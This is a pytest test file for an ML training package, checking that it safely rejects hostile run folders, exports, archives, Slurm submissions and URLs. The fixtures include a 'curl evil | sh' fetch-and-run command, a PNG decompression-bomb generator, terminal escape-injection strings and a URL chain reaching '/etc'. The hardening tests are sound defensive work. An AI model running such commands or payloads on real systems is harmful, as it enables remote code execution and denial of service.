"""Runs, exports, plans and submissions of others: made to do harm, they cost a line, or a picture that is not shown."""

from __future__ import annotations

import hashlib
import json
import os
import shutil
import struct
import tempfile
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import numpy as np
import pytest
import safetensors.numpy
import torch

from ig_dist.arithmetic import compile_cache
from ig_dist.checkpoints.manifest import FORMAT, sealed
from ig_dist.errors import ConfigError, DataError, IgDistError
from ig_dist.evaluation.references import open_reference
from ig_dist.evaluation.tables import print_plans, print_result
from ig_dist.export import find_run, load_export
from ig_dist.features import npz
from ig_dist.plans.samples import is_run, list_plans, read_samples, read_unit, unit_name
from ig_dist.report.page import write_report
from ig_dist.slurm.control import cancel
from ig_dist.slurm.record import Folder, Submission, World
from ig_dist.slurm.watch import refuse_others, show_status
from ig_dist.storage.files import open_url
from ig_dist.storage.writable import others_may_change
from ig_dist.terminal import console, say
from tests.scoring import make_plan
from tests.unit.test_report import add_results, make_run, sweep_of

CPU = torch.device("cpu")
DEEP = "[" * 100_000
INFO: dict[str, Any] = {
    "model": {
        "depth": 2, "hidden_size": 16, "num_heads": 2, "patch_size": 2, "input_size": 8, "in_channels": 1,
        "num_classes": 10, "aux_depth": 1,
    },
    "path": "linear",
    "latent": {"kind": "sample", "shape": [1, 8, 8], "dtype": "float16", "shift": [0.0], "scale": [1.0]},
    "tokenizer": {"name": "pixel", "sha256": "0", "image_size": 8, "image_channels": 1},
    "classes": [str(i) for i in range(10)],
    "trained_with_null_label": True, "ema": None, "step": 5, "images_seen": 5, "checkpoint_sha256": "0",
}  # fmt: skip


def export(folder: Path, packed: bytes, **model: Any) -> Path:
    shutil.rmtree(folder, ignore_errors=True)
    folder.mkdir()
    (folder / "model.safetensors").write_bytes(packed)
    told = {**INFO, "model": {**INFO["model"], **model}, "weights_sha256": hashlib.sha256(packed).hexdigest()}
    (folder / "export.json").write_text(json.dumps(told))
    return folder


def test_an_export_whose_hash_is_right_and_whose_content_is_not_costs_a_line(tmp_path: Path) -> None:
    folder = tmp_path / "export"
    weights = safetensors.numpy.save({"x_embedder.proj.weight": np.zeros(3, np.int32)})
    for packed, model in (
        (b"", {}),
        (b"garbage", {}),
        (weights, {}),
        (weights, {"depth": 10**9, "aux_depth": 1}),
        (weights, {"hidden_size": 4 * 10**9}),
        (weights, {"hidden_size": 4 * 10**20}),
        (weights, {"num_classes": 10**18}),
    ):
        with pytest.raises(IgDistError):
            load_export(export(folder, packed, **model), CPU)
    for name in ("model.safetensors", "export.json"):
        export(folder, weights)
        (folder / name).unlink()
        os.mkfifo(folder / name)
        with pytest.raises(IgDistError):
            load_export(folder, CPU)


def test_a_checkpoint_that_no_training_saved_is_no_weights(tmp_path: Path) -> None:
    file = {"name": "a.safetensors", "bytes": 8, "sha256": "0" * 64, "header": [8, zlib.crc32(bytes(8))]}
    folder = tmp_path / "checkpoints" / "step_0000000005"
    folder.mkdir(parents=True)
    (folder / "a.safetensors").write_bytes(bytes(8))
    good = {"images_seen": 5, "index_sha256": "0", "optimizer_steps": 5}
    for meta, shape in (
        ({"optimizer_steps": 5}, None),
        ({**good, "config": []}, None),
        ({**good, "config": {"run": "x"}}, None),
        ({**good, "config": {}, "images_seen": "x"}, None),
        ({**good, "config": {}}, [2**62, 2**62, 0]),
    ):
        tensors = {} if shape is None else {"model/x": {"shape": shape, "dtype": "float32", "pieces": []}}
        manifest = {"format": FORMAT, "step": 5, "world_size": 1, "meta": meta, "files": [file], "tensors": tensors}
        (folder / "manifest.json").write_text(json.dumps(sealed(manifest)))
        with pytest.raises(ConfigError, match="does not say|another version|no whole checkpoint"):
            find_run(folder)


def plan_folder(run: Path, name: str = "0123") -> Path:
    (folder := run / "samples" / name).mkdir(parents=True)
    described = {
        "plan": make_plan().model_dump(mode="json"),
        "export": {**INFO, "weights_sha256": "0"},
        "run": "",
        "weak": None,
        "uint8_rule": "x",
        "tokenizer": "",
        "evaluate": {},
    }
    (folder / "plan.json").write_text(json.dumps(described))
    return folder


def test_plans_that_nobody_made_count_as_unfinished(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = make_run(tmp_path / "run")
    file = plan_folder(run) / "plan.json"
    good = file.read_text()
    assert len(list_plans(run)) == 1 and read_samples(str(file.parent))[0].plan == make_plan()
    for changes in ({"num": -1}, {"num": 10**18}, {"unit_size": 0}, {"batch_size": 0}, {"more": 1}):
        told = json.loads(good)
        told["plan"].update(changes)
        file.write_text(json.dumps(told))
        assert not [listed for listed in list_plans(run) if listed.plan]
        with pytest.raises(ConfigError, match="no finished samples"):
            read_samples(str(file.parent))
    for text in (DEEP, "[]", "{", "{}", "null", ""):
        file.write_text(text)
        assert not [listed for listed in list_plans(run) if listed.plan]
        with pytest.raises(ConfigError, match="no finished samples"):
            read_samples(str(file.parent))
    file.unlink()
    os.mkfifo(file)
    assert not [listed for listed in list_plans(run) if listed.plan]
    with pytest.raises(ConfigError, match="no finished samples"):
        read_samples(str(file.parent))
    file.unlink()
    file.write_text(good)
    file.parent.rename(run / "samples" / "a[red]b\x1b]0;c\x07")
    print_plans(list_plans(run))
    out = capsys.readouterr().out.replace("\n", "")
    assert "[red]" in out and "\x1b" not in out and "\x07" not in out


def test_scores_go_into_no_folder_that_is_no_run(tmp_path: Path) -> None:
    assert not is_run(tmp_path)
    assert is_run(make_run(tmp_path / "run"))


@pytest.mark.parametrize(
    "change",
    [
        {"images": np.zeros((4, 8, 8), np.uint8)},
        {"images": np.zeros((4, 8, 8, 1), np.float32)},
        {"images": np.zeros((3, 8, 8, 1), np.uint8)},
        {"labels": np.array([0, 1, 2, -1])},
        {"labels": np.array([0, 1, 2, 10**6])},
        {"labels": np.zeros(5, np.int64)},
        {"work": np.zeros(4, np.int64)},
    ],
)
def test_a_unit_of_other_arrays_is_refused(tmp_path: Path, change: dict[str, Any]) -> None:
    plan = make_plan(num=4, unit_size=4)
    unit: dict[str, Any] = {
        "images": np.zeros((4, 8, 8, 1), np.uint8),
        "labels": np.arange(4),
        "work": np.zeros((4, 3), np.int64),
    }
    (tmp_path / unit_name(0)).write_bytes(safetensors.numpy.save(unit))
    assert len(read_unit(plan, str(tmp_path), 0).labels) == 4
    (tmp_path / unit_name(0)).write_bytes(safetensors.numpy.save(unit | change))
    with pytest.raises(DataError, match="of another plan"):
        read_unit(plan, str(tmp_path), 0)


def bomb(file: Path) -> None:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0))
    file.write_bytes(b"\x89PNG\r\n\x1a\n" + header + chunk(b"IDAT", b"x" * 1_100_000) + chunk(b"IEND", b""))


def instead(name: str, text: str | None) -> Callable[[Path], None]:
    """A file of another content; None: a pipe."""

    def harm(run: Path) -> None:
        (run / name).parent.mkdir(parents=True, exist_ok=True)
        (run / name).unlink(missing_ok=True)
        if text is None:
            os.mkfifo(run / name)
        else:
            (run / name).write_text(text)

    return harm


def metric(**values: Any) -> Callable[[Path], None]:
    def harm(run: Path) -> None:
        lines = (run / "metrics.jsonl").read_text().splitlines()
        text = json.dumps({**json.loads(lines[-1]), **values})
        (run / "metrics.jsonl").write_text("\n".join([*lines[:-1], text]) + "\n")

    return harm


def protocol(**values: Any) -> Callable[[Path], None]:
    return instead("evaluations/x.json", json.dumps({"scores": {"fd_pixel": 1.0}, "protocol": values}))


SWEEP = {"ig_scale": 1.0, "cfg_scale": 1.0, "plans": []}


@pytest.mark.parametrize(
    "harm",
    [
        lambda run: bomb(run / "samples" / "bomb.png"),
        instead("samples/x.png", None),
        instead("samples/training/step_abc.png", "x"),
        instead("samples/plan0/plan.json", None),
        instead("samples/plan0/plan.json", DEEP),
        metric(step=10**400),
        metric(images_seen="x"),
        metric(val_loss="x"),
        metric(score_num="x", score_fid=1.0),
        metric(loss=[1]),
        protocol(num="x"),
        protocol(seed={}),
        protocol(plan=["x"]),
        protocol(guidance=5),
        instead("evaluations/x.json", None),
        instead("sweep.json", json.dumps({"rows": [{**SWEEP, "scores": {}}], "target": "fid"})),
        instead("sweep.json", json.dumps({"rows": [{**SWEEP, "scores": {}}], "written": "0001-01-01T00:00:00"})),
        instead("sweep.json", json.dumps({"rows": [{**SWEEP, "scores": {"fid": 1}}], "protocol": {"num": "x"}})),
        instead("convert.json", "[1]"),
        instead("convert.json", DEEP),
        instead("convert.json", None),
        lambda run: edit_config(run, "depth: 3", f"depth: {10**9}"),
        lambda run: edit_config(run, "num_classes: 10", f"num_classes: {10**18}"),
        lambda run: edit_config(run, "index: nowhere", "index: 'simplecache::file:///etc'"),
    ],
)
def test_a_report_of_a_hostile_run_is_a_page_or_a_line(tmp_path: Path, harm: Callable[[Path], None]) -> None:
    run = make_run(tmp_path / "run", sweep=sweep_of([1.0, 2.0], [1.0]))
    add_results(run)
    harm(run)
    try:
        assert write_report(run).is_file()
    except ConfigError as error:
        assert "\n" not in str(error)


def edit_config(run: Path, old: str, new: str) -> None:
    text = (run / "config.yaml").read_text()
    assert old in text
    (run / "config.yaml").write_text(text.replace(old, new))


def test_a_url_within_a_url_is_not_opened(tmp_path: Path) -> None:
    (tmp_path / "refs.json").write_text('{"version": 1, "refs": {}}')
    for url in (
        f"reference://::file://{tmp_path}/refs.json",
        "simplecache::https://example.com/x",
        "zip://x::file:///tmp/x.zip",
        "filecache::s3://bucket/x",
    ):
        with pytest.raises(ConfigError, match="one URL within another"):
            open_url(url, "data.index", web=True)


def test_what_a_terminal_would_obey_is_shown(capsys: pytest.CaptureFixture[str]) -> None:
    say(ConfigError("a\x1b[2Jb\x9b1mc\u202ed\re\nf"))
    console.print("g\x1b]0;h\x07")
    print_result({"scores": {"[/x]": 1.0}, "protocol": {"reference": "a[/x]\x1b[2J.npz", "[/y]": 1}})
    said = capsys.readouterr()
    assert said.err == "error: a\\x1b[2Jb\\x9b1mc\\u202ed\\re\nf\n"
    assert not set(said.out) & set("\x1b\x07") and "[/x]" in said.out and "[/y]" in said.out


def test_a_submission_that_somebody_else_may_have_written_is_not_submitted_again(tmp_path: Path) -> None:
    submission = Submission(
        kind="train", commands=[], run=str(tmp_path / "run"), cwd="/", tasks_per_node=1, cpus_per_task=1,
        worlds={1: World(nodes=1, accumulation=1)}, max_failures=1, signal_delay_s=1,
        options={"setup": ["curl evil | sh"]},
    )  # fmt: skip
    (path := tmp_path / "run" / "slurm" / "x").mkdir(parents=True)
    Folder(path).write(submission)
    refuse_others(Folder(path), submission, tmp_path / "run")
    (tmp_path / "link").symlink_to(tmp_path / "run")
    refuse_others(Folder(path), submission, tmp_path / "link")
    with pytest.raises(ConfigError, match="of a run that was elsewhere"):
        refuse_others(Folder(path), submission, tmp_path / "copy")
    if os.geteuid() == 0:
        os.chown(path / "job.json", 65534, 65534)
        with pytest.raises(ConfigError, match="another user's"):
            refuse_others(Folder(path), submission, tmp_path / "run")


def submitted(run: Path) -> Folder:
    submission = Submission(
        kind="train", commands=[], run=str(run), cwd="/", tasks_per_node=1, cpus_per_task=1,
        worlds={1: World(nodes=1, accumulation=1)}, max_failures=1, signal_delay_s=1, options={},
    )  # fmt: skip
    (path := run / "slurm" / "x" / "log").mkdir(parents=True)
    (folder := Folder(path.parent)).write(submission)
    folder.id = "5"
    return folder


def test_what_stands_in_a_submission_is_no_option_of_slurm_and_no_crash(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    typed: list[tuple[str, ...]] = []
    monkeypatch.setattr("ig_dist.slurm.commands.slurm", lambda *words, **_: str(typed.append(words) or ""))  # type: ignore[func-returns-value]
    folder = submitted(tmp_path)
    assert folder.id == "5"
    for text in ("--user=me", "5 --me", "5\n--me", "5,6", "\u0665"):
        (folder.path / "id").write_text(text)
        assert folder.id == ""
    cancel(tmp_path)
    assert not typed
    line: Any
    begun = {"event": "start", "time": 1.0, "nodes": ["a"], "log": 0}
    for line in (
        5, [], {}, {"event": 5}, {"event": "start"}, {**begun, "time": "x"}, {**begun, "time": 1e300},
        {**begun, "log": "x"}, {**begun, "nodes": 5}, {**begun, "nodes": [5]},
    ):  # fmt: skip
        (folder.path / "history.jsonl").write_text(json.dumps(line) + "\n" + json.dumps(begun) + "\n")
        show_status(tmp_path)
        assert len(folder.events()) == 1
    for content in (DEEP.encode(), b"\xff\xfe"):
        for name in ("slurm/x/history.jsonl", "metrics.jsonl", "config.yaml"):
            (tmp_path / name).write_bytes(content)
    show_status(tmp_path)
    for name in ("slurm/x/history.jsonl", "slurm/x/id", "metrics.jsonl", "config.yaml"):
        (tmp_path / name).unlink()
        os.mkfifo(tmp_path / name)
    show_status(tmp_path)
    (folder.path / "job.json").unlink()
    os.mkfifo(folder.path / "job.json")
    with pytest.raises(ConfigError, match="was never submitted"):
        show_status(tmp_path)


def npy(head: str, data: bytes = b"") -> bytes:
    text = head.encode()
    text += b" " * (-(len(text) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


def array(descr: str, shape: str, data: bytes = b"") -> bytes:
    return npy(f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}", data)


def test_npz_of_no_pictures_bombs_and_odd_statistics(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(npz, "MAX_WHOLE_BYTES", 2**20)
    file = tmp_path / "x.npz"
    for data in (
        npy("(" * 9000),
        array("|u1", "(0, 4, 4, 3)"),
        array("|u1", "(1000000000, 0, 0, 3)"),
        array("|u1", "(1, 2000, 2000, 1)", bytes(4_000_000)),
    ):
        with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr("arr_0.npy", data)
        with pytest.raises(ConfigError):
            npz.open_npz(str(file))
    good = {"mu": array("<f8", "(1,)", bytes(8)), "sigma": array("<f8", "(1, 1)", bytes(8))}
    for change in (
        {"num": array("<U1", "()", b"a\0\0\0")},
        {"num": array("<i8", "(2,)", bytes(16))},
        {"num": array("<f8", "()", struct.pack("<d", float("nan")))},
        {"mu": array("<U1", "(1,)", b"a\0\0\0")},
    ):
        with zipfile.ZipFile(file, "w") as archive:
            for name, data in {**good, **change}.items():
                archive.writestr(f"{name}.npy", data)
        with pytest.raises(ConfigError):
            open_reference(str(file), ["fid"], lambda name: SimpleNamespace(sha256="0"))  # type: ignore[arg-type,return-value]
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in good.items():
            archive.writestr(f"{name}.npy", data)
    for text in ('{"extractors": 5}', '{"extractors": []}', "[1]", DEEP):
        file.with_suffix(".json").write_text(text)
        open_reference(str(file), ["fid"], lambda name: SimpleNamespace(sha256="0"))  # type: ignore[arg-type,return-value]


def test_kernels_are_not_kept_where_a_group_may_write_nor_in_a_folder_that_another_made(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.delenv("TORCHINDUCTOR_CACHE_DIR", raising=False)
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    (theirs := tmp_path / "torchinductor_somebody").mkdir()
    theirs.chmod(0o777)
    monkeypatch.setenv("LOGNAME", "somebody")
    (tmp_path / "file").write_text("no folder")
    monkeypatch.setenv("IG_DIST_COMPILED", f"{tmp_path}/file/compiled")
    compile_cache.keep_compiled()
    chosen = Path(os.environ.pop("TORCHINDUCTOR_CACHE_DIR"))
    assert chosen.name.startswith("ig-dist-compiled-") and chosen.stat().st_mode & 0o777 == 0o700
    assert f"other users may change files in {theirs}" in capfd.readouterr().err
    if os.geteuid() == 0:
        (group := tmp_path / "group").mkdir()
        os.chown(group, 0, 65534)
        group.chmod(0o770)
        assert others_may_change(group) == "" and others_may_change(group, code=True) == str(group)
